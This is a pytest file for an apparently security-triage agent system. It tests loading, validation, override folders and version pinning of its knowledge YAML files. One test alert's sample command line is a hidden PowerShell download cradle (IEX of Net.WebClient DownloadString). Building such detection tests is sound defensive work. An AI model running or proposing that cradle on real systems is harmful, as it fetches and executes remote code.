"""The agents' knowledge is versioned data: the packaged YAML files load and validate, a team's
own folder (GARRISON_KNOWLEDGE_DIR) replaces the files it holds and names its own version, a bad
file is refused with one line naming the file and the field (never a traceback through the CLI),
and every triage records the version it was decided under."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

import agents.estate as estate
import agents.knowledge as knowledge
from agents.deps import AgentDeps
from agents.knowledge_base import PACKAGED_DIR, KnowledgeError, load_knowledge
from agents.triage.graph import run_triage
from orchestrator.settings import ConfigError, load_settings
from tests.agents.fakes import FakeEdr, alert, read_tools
from tests.agents.scenarios import triage_input
from tools.models import Severity


def _folder(tmp_path: Path, version: str = "acme-2031-01-01.1", **files: object) -> Path:
    folder = tmp_path / "knowledge"
    folder.mkdir()
    (folder / "manifest.yaml").write_text(f'version: "{version}"\n', encoding="utf-8")
    for name, document in files.items():
        (folder / f"{name}.yaml").write_text(yaml.safe_dump(document), encoding="utf-8")
    return folder


def _packaged(name: str) -> dict[str, object]:
    return yaml.safe_load((PACKAGED_DIR / f"{name}.yaml").read_text(encoding="utf-8"))


def test_the_modules_tables_are_the_packaged_files() -> None:
    manifest = _packaged("manifest")
    techniques = _packaged("techniques")["techniques"]
    assert isinstance(techniques, dict)

    assert manifest["version"] == knowledge.KNOWLEDGE_VERSION
    assert knowledge.technique_weight("T1003.001") == techniques["T1003"]["weight"]
    assert knowledge.technique_tactic("T1021.002") == "lateral-movement"
    assert knowledge.is_system_account("NT AUTHORITY\\SYSTEM")
    assert estate.is_shared_service("download.windowsupdate.com")
    assert estate.is_reset_only_account("corp\\krbtgt")


def test_a_team_folder_replaces_the_files_it_holds_and_names_its_version(tmp_path: Path) -> None:
    own_estate = _packaged("estate")
    domains = own_estate["shared_service_domains"]
    assert isinstance(domains, list)
    own_estate["shared_service_domains"] = [*domains, "intranet-cdn.example"]
    folder = _folder(tmp_path, estate=own_estate)

    loaded = load_knowledge(folder)

    assert loaded.version == "acme-2031-01-01.1"
    assert "intranet-cdn.example" in loaded.estate.shared_service_domains
    assert loaded.techniques == load_knowledge().techniques  # not in the folder: packaged


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        (
            {"rules": {"noisy_factor": 1.5, "noisy_rules": [], "noisy_titles": []}},
            "rules.yaml: noisy_factor: Input should be less than or equal to 1",
        ),
        (
            {"tradecraft": {"cmdline_indicators": [{"why": "x", "weight": 1, "pattern": "(a"}]}},
            "tradecraft.yaml: cmdline_indicators.0.pattern: not a valid regular expression",
        ),
        ({"technique": {}}, "technique.yaml: not a knowledge file"),
    ],
)
def test_a_bad_file_names_the_file_and_the_field(
    tmp_path: Path, files: dict[str, object], expected: str
) -> None:
    folder = _folder(tmp_path, **files)

    with pytest.raises(KnowledgeError) as raised:
        load_knowledge(folder)

    assert expected in str(raised.value)
    assert "\n" not in str(raised.value)


def test_a_technique_with_an_unknown_tactic_is_refused(tmp_path: Path) -> None:
    techniques = _packaged("techniques")
    entries = techniques["techniques"]
    assert isinstance(entries, dict)
    entries["T1003"] = {**entries["T1003"], "tactic": "credential-acess"}
    folder = _folder(tmp_path, techniques=techniques)

    with pytest.raises(KnowledgeError, match=r"techniques.yaml: techniques.T1003.tactic: "):
        load_knowledge(folder)


def test_a_folder_without_its_own_version_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "knowledge"
    folder.mkdir()
    (folder / "rules.yaml").write_text(yaml.safe_dump(_packaged("rules")), encoding="utf-8")

    with pytest.raises(KnowledgeError, match=r"manifest\.yaml: missing"):
        load_knowledge(folder)


def test_the_settings_refuse_a_bad_knowledge_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = _folder(tmp_path, network={"infrastructure_ports": [70_000]})
    monkeypatch.setenv("GARRISON_KNOWLEDGE_DIR", str(folder))

    with pytest.raises(ConfigError, match=r"network.yaml: infrastructure_ports.0: "):
        load_settings()


def test_the_cli_says_which_file_is_wrong_without_a_traceback(tmp_path: Path) -> None:
    folder = _folder(tmp_path, rules={"noisy_factor": 2, "noisy_rules": [], "noisy_titles": []})
    env = {**os.environ, "GARRISON_KNOWLEDGE_DIR": str(folder), "GARRISON_DATA_DIR": str(tmp_path)}

    done = subprocess.run(
        [sys.executable, "-m", "orchestrator.cli", "incidents", "list"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )

    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert f"{folder / 'rules.yaml'}: noisy_factor:" in done.stderr


async def test_the_triage_records_the_knowledge_version() -> None:
    alerts = [
        alert(
            "a1",
            "Download cradle",
            Severity.HIGH,
            [("T1105", "command-and-control")],
            host="ws-17.corp.example",
            user="corp\\kim",
            pid=900,
            cmd="powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('x')",
        )
    ]

    result = await run_triage(AgentDeps(tools=read_tools(FakeEdr())), triage_input(alerts))

    assert result.knowledge_version == knowledge.KNOWLEDGE_VERSION


def test_a_knowledge_error_met_without_the_settings_is_one_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import orchestrator.cli as cli

    def app() -> None:
        raise KnowledgeError("/k/rules.yaml: noisy_factor: Input should be less than or equal to 1")

    monkeypatch.setattr(cli, "app", app)

    with pytest.raises(SystemExit) as raised:
        cli.main()

    assert raised.value.code == 2
    assert "error: invalid knowledge: /k/rules.yaml: noisy_factor:" in capsys.readouterr().err


# The content of the packaged files (comments aside) at each version: a change to the knowledge
# without a new version would make two different sets of decisions claim the same version.
DIGESTS = {
    "2026-12-06.2": "6eaee5f19711965743491004a11277d6bf9ec35d5a531f0ae066d42ed73f84dd",
    "2026-12-06.3": "39b3a31159f7f2e1896a0d3be1bc19129ce07082edeb06e6ec110569d6286b9c",
    "2026-12-06.4": "8552aed5fe4065795efe63f9aa7ef4e07622c3bddd6cc460fb29ac4652d9b482",
    "2026-12-06.5": "a170f519aae0524529aca3916f44d1e1f7eb13000586f9cdc5e6ebe3539fde20",
    "2026-12-06.6": "b1987539905e4d72adb07c1b9f295e847e06c64c8577fb1689d10471af4797d2",
    "2026-12-06.7": "8288aacf38da34f98ddeb0c3240708bfde29c39cde9c624a6e2b03d804f4728d",
}


def _content_digest() -> str:
    digest = hashlib.sha256()
    for path in sorted(PACKAGED_DIR.glob("*.yaml")):
        if path.name != "manifest.yaml":
            content = yaml.safe_load(path.read_text(encoding="utf-8"))
            digest.update(f"{path.name}\0{json.dumps(content, sort_keys=True)}\0".encode())
    return digest.hexdigest()


def test_a_change_to_the_knowledge_comes_with_a_new_version() -> None:
    version = knowledge.KNOWLEDGE_VERSION
    digest = _content_digest()

    assert version in DIGESTS, (
        f"knowledge version {version} has no recorded digest: add {version!r}: {digest!r}"
    )
    assert DIGESTS[version] == digest, (
        f"the knowledge files changed but manifest.yaml still says {version}: bump the version"
        f" and record {digest!r} for it"
    )
